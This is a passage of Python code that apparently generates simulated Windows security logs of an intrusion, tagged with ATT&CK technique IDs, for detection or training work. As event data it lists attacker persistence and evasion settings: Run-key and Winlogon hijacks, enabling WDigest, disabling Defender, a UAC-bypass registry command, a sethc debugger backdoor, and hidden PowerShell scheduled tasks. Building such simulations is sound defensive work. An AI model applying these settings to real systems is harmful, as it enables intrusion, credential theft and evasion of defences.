        for file_name, user_of, image_of in [(r"C:\Users\Public\svch.exe", self.victim_user, SYSTEM32 + "certutil.exe"),
                                             (f"C:\\Users\\{self.victim_user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk",
                                              self.victim_user, POWERSHELL), (r"C:\Windows\Temp\l.bin", "SYSTEM",
            SYSTEM32 + "rundll32.exe"), (r"C:\Windows\PSEXESVC.exe", "SYSTEM", "System"),
                                             (f"C:\\Users\\{self.victim_user}\\Downloads\\Invoice_4471.iso", self.victim_user,
                                              r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
                                             (r"D:\dept\README_RESTORE.txt", "SYSTEM", r"C:\Windows\Temp\lk.exe"),
                                             (r"D:\dept\Finance\budget.xlsx.lkd", "SYSTEM", r"C:\Windows\Temp\lk.exe"),
                                             (r"C:\inetpub\wwwroot\aspnet_client\e.aspx", "svc_web",
                                              r"C:\Windows\System32\inetsrv\w3wp.exe"), (r"C:\Users\Public\20230822_BloodHound.zip",
            self.victim_user, r"C:\Users\Public\SharpHound.exe"), (r"C:\Windows\System32\Tasks\Microsoft\Windows\UPnP\Sync", "SYSTEM",
            SVCHOST)]:
            attack(self.file_made, self.day_hour(self.rng.choice([0, 1, 2]), 10 + self.rng.random() * 8),
                   self.choice([self.victim, "SQL01", "FS02"]), user_of, image_of, file_name, group="files", technique="T1105")
        for key, fields_of in [(f"HKU\\{self.sids[self.victim_user]}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                                r"C:\Users\Public\svch.exe"),
                               (r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential",
                                "DWORD (0x00000001)"), (r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
            "DWORD (0x00000001)"), (r"HKLM\System\CurrentControlSet\Services\WinUpdSvc\ImagePath", r"C:\Users\Public\svch.exe"),
                               (r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell",
                                r"explorer.exe, C:\Users\Public\svch.exe"),
                               (f"HKU\\{self.sids[self.victim_user]}_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                                r"cmd.exe /c C:\Users\Public\svch.exe"),
                               (r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections", "DWORD (0x00000000)"),
                               (r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger",
                                r"C:\windows\system32\cmd.exe")]:
            attack(self.registry_value, self.day_hour(1, 16) + self.rng.random() * 9000, self.victim,
                   self.choice([self.victim_user, "SYSTEM"]),
                   self.choice([SYSTEM32 + "reg.exe", POWERSHELL, SYSTEM32 + "services.exe"]), key, fields_of, group="persist_evade",
                   technique="T1112")

    def accounts_and_tasks(self) -> None:
        """Accounts and tasks of an intruder."""
        controller = "DC01"
        at = self.day_hour(1, 15)
        for code, fields_of in [(4720, [("TargetUserName", "svc_help"), ("TargetDomainName", self.netbios),
                                        ("TargetSid", self.authority + "-1911")] + self.subject(self.administrators[0],
            controller) + [("PrivilegeList", "-"), ("SamAccountName", "svc_help"), ("DisplayName", "%%1793"),
                           ("UserPrincipalName", "-"), ("UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084")]),
                                (4728, [("MemberName", "CN=svc_help,CN=Users,DC=contoso,DC=lab"),
                                        ("MemberSid", self.authority + "-1911"), ("TargetUserName", "Domain Admins"),
                                        ("TargetDomainName", self.netbios),
                                        ("TargetSid", self.authority + "-512")] + self.subject(self.administrators[0],
            controller) + [("PrivilegeList", "-")]), (4724, [("TargetUserName", "svc_backup"), ("TargetDomainName", self.netbios),
            ("TargetSid", self.sids["svc_backup"])] + self.subject(self.administrators[0], controller)),
                                (4738, [("Dummy", "-"), ("TargetUserName", "svc_help"), ("TargetDomainName", self.netbios),
                                        ("TargetSid", self.authority + "-1911")] + self.subject(self.administrators[0],
            controller) + [("PrivilegeList", "-"), ("SamAccountName", "-"), ("AllowedToDelegateTo", "cifs/DC01")]),
                                (4742, [("ComputerAccountChange", "-"), ("TargetUserName", "DC01$"), ("TargetDomainName", self.netbios),
                                        ("TargetSid", self.authority + "-1000")] + [("SubjectUserSid", "S-1-5-7"),
            ("SubjectUserName", "ANONYMOUS LOGON"), ("SubjectDomainName", "NT AUTHORITY"), ("SubjectLogonId", "0x3e6"),
            ("PasswordLastSet", iso(at))]), (5136, self.subject(self.administrators[0], controller) + [("DSName", self.fqdn),
            ("DSType", "%%14676"), ("ObjectDN", "CN={6AC1786C-016F-11D2-945F-00C04FB984F9},CN=Policies,CN=System,DC=contoso,DC=lab"),
            ("ObjectClass", "groupPolicyContainer"), ("AttributeLDAPDisplayName", "gPCMachineExtensionNames"),
            ("AttributeValue", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
            ("OperationType", "%%14674")]),
                                (1102, [("SubjectUserSid", self.sids[self.administrators[0]]),
                                        ("SubjectUserName", self.administrators[0]), ("SubjectDomainName", self.netbios),
                                        ("SubjectLogonId", self.logon_id())]),
                                (4719, self.subject("SYSTEM", controller) + [("CategoryId", "%%8276"), ("SubcategoryId", "%%13312"),
            ("SubcategoryGuid", "{0CCE922B-69AE-11D9-BED3-505054503030}"), ("AuditPolicyChanges", "%%8448")])]:
            at += self.rng.uniform(20, 900)
            self.event(at, "Sec", code, controller, fields_of, 1, "ad_change", "T1136.002")
        for name_of, command_line, arguments_of in [(r"\Microsoft\Windows\UPnP\Sync", r"C:\Users\Public\svch.exe", ""),
            (r"\hQwBxYzT", "cmd.exe", r"/C tasklist &gt; %windir%\Temp\hQwBxYzT.tmp 2&gt;&amp;1"),
            (r"\OneDrive Reporting Task", "powershell.exe", r"-w hidden -ep bypass -File C:\Users\Public\p.ps1"),
            (r"\Adobe Acrobat Update Task2", "rundll32.exe", r"C:\ProgramData\msdl.dat,Start")]:
            attack(self.task_event, self.day_hour(1, 15) + self.rng.random() * 20000, self.choice([self.victim, "FS02", "SQL01"]),
                   self.choice([self.administrators[0], self.victim_user]), name_of, command_line, arguments_of, group="persist_evade",
                   technique="T1053.005")
